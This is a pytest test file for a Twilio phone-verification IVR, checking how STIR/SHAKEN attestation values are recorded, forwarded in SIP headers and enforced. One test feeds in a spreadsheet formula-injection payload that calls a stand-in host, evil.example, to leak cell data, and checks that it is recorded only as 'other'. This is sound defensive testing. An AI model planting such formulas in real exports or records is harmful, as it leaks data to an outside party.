"""STIR/SHAKEN: the attestation a call arrived with is recorded, handed on, and, if asked, required."""

import pytest
from twilio.request_validator import RequestValidator

from app.simulator import validate
from tests.conftest import CALLER, SERVICE_NUMBER

SIP = "sip:desk@pbx.example.com"


def sip_headers(caller):
    return [event for event in caller.events if event.kind == "dial"][-1].attrs["headers"]


def sends(verify):
    return [path for path, _ in verify.requests if path.endswith("/Verifications")]


@pytest.mark.parametrize("verstat", ["TN-Validation-Passed-A", "TN-Validation-Passed-C", "No-TN-Validation", None])
def test_by_default_every_attestation_is_recorded_and_handed_on(make_app, call, records, verstat):
    caller = call(target=make_app(SUCCESS_NEXT_STEP=SIP), params={"StirVerstat": verstat} if verstat else {})
    caller.press(caller.last_code)
    assert caller.heard("your phone number is verified")
    assert sip_headers(caller).get("X-Verification-Attestation") == verstat
    assert records()[0]["stir_verstat"] == verstat


@pytest.fixture
def strict(make_app):
    return make_app(STIR_POLICY="require-a", FAILURE_NEXT_STEP=SIP)


@pytest.mark.parametrize(
    "verstat",
    ["TN-Validation-Passed-B", "TN-Validation-Passed-C", "TN-Validation-Failed-A", "No-TN-Validation", "TN-Validation-Failed", None],
)
def test_require_a_sends_no_code_to_a_call_without_a_attestation(strict, call, verify, records, verstat):
    caller = call(target=strict, params={"StirVerstat": verstat} if verstat else {})
    assert caller.heard("we cannot confirm that this call comes from the number it shows")
    assert caller.heard("please hold while we connect you to an agent")
    assert sends(verify) == []
    headers = sip_headers(caller)
    assert (headers["X-Verification-Status"], headers["X-Verification-Reason"]) == ("failed", "unattested")
    [record] = records()
    assert (record["outcome"], record["reason"], record["stir_verstat"]) == ("failed", "unattested", verstat)


def test_require_a_verifies_an_a_attested_call_as_usual(strict, call, verify):
    caller = call(target=strict, params={"StirVerstat": "TN-Validation-Passed-A"})
    assert len(sends(verify)) == 1
    caller.press(caller.last_code)
    assert caller.heard("your phone number is verified")


def test_an_unattested_call_is_not_counted_towards_a_lockout(strict, call, verify):
    for _ in range(4):
        call(target=strict, params={"StirVerstat": "TN-Validation-Passed-B"})
    caller = call(target=strict, params={"StirVerstat": "TN-Validation-Passed-A"})
    assert caller.heard("we have just sent a text message")


def test_require_a_refuses_a_value_twilio_does_not_document(strict, call, verify, records):
    caller = call(target=strict, params={"StirVerstat": "tn-validation-passed-a"})
    assert caller.heard("we cannot confirm that this call comes from the number it shows")
    assert sends(verify) == []
    assert records()[0]["stir_verstat"] == "other"


def test_the_agent_hears_that_the_carrier_did_not_vouch(make_app, call):
    caller = call(target=make_app(STIR_POLICY="require-a", FAILURE_NEXT_STEP="+14155550123"))
    assert caller.agent_heard == ["Caller not verified: the carrier did not vouch for their caller ID."]


@pytest.mark.parametrize(
    "odd",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "TN-Validation-Maybe-" + "Z" * 100, "tn-validation-passed-a", "@SUM(1+1)"],
    ids=["formula", "unknown-and-long", "lower-case", "at-sign"],
)
def test_a_value_twilio_does_not_document_is_recorded_and_handed_on_as_other(make_app, call, records, odd):
    caller = call(target=make_app(SUCCESS_NEXT_STEP=SIP), params={"StirVerstat": odd})
    caller.press(caller.last_code)
    assert sip_headers(caller)["X-Verification-Attestation"] == "other"
    assert records()[0]["stir_verstat"] == "other"


def test_the_attestation_travels_from_voice_in_the_call_state(make_app, call, records):
    """Twilio sends StirVerstat to /voice; the later steps need not see it again."""
    app = make_app(SUCCESS_NEXT_STEP=SIP)
    fields = {"CallSid": "CA" + "5" * 32, "From": CALLER, "To": SERVICE_NUMBER, "StirVerstat": "TN-Validation-Passed-B"}
    url = "https://ivr.example.com/voice"
    signature = RequestValidator("test-auth-token").compute_signature(url, fields)
    answer = app.test_client().post(url, data=fields, headers={"X-Twilio-Signature": signature})
    start = validate(answer.get_data(as_text=True)).find("Redirect").text
    caller = call(target=app, url="https://ivr.example.com" + start, params={"CallSid": fields["CallSid"]})
    assert "StirVerstat" not in caller.fields
    caller.press(caller.last_code)
    assert sip_headers(caller)["X-Verification-Attestation"] == "TN-Validation-Passed-B"
    assert records()[0]["stir_verstat"] == "TN-Validation-Passed-B"


def test_by_account_the_attestation_from_voice_reaches_the_verdict(make_app, call, records):
    app = make_app(VERIFY_BY="account_or_caller_id", SUCCESS_NEXT_STEP=SIP)
    caller = call(target=app, params={"StirVerstat": "TN-Validation-Passed-B"})
    del caller.fields["StirVerstat"]  # the account step's webhooks come without it
    caller.press("#")
    caller.press(caller.last_code)
    assert caller.heard("your phone number is verified")
    assert sip_headers(caller)["X-Verification-Attestation"] == "TN-Validation-Passed-B"
    assert records()[0]["stir_verstat"] == "TN-Validation-Passed-B"


def test_flask_verifications_report_shows_the_attestations(app, call):
    verstats = ["TN-Validation-Passed-A", "TN-Validation-Passed-A", "No-TN-Validation", None]
    for caller, verstat in enumerate(verstats):
        call(from_=f"+1415555267{caller}", params={"StirVerstat": verstat} if verstat else {})
    result = app.test_cli_runner().invoke(args=["verifications", "report"])
    assert result.exit_code == 0, result.output
    lines = [" ".join(line.split()) for line in result.output.splitlines()]
    assert lines[lines.index("attestation") + 1 :][:3] == ["TN-Validation-Passed-A 2", "No-TN-Validation 1", "none 1"]
